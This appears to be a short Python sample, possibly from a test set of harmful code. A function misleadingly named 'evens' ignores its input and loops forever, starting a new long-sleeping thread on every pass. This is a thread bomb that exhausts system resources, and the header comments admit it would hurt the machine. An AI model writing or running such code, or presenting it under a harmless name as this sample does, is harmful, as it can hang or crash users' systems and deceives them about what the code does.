# tries: start threads without end
# look: no
# not run elsewhere: it would hurt the machine
# %% evens
import threading
import time

def evens(numbers):
    while True:
        threading.Thread(target=time.sleep, args=(1000,)).start()
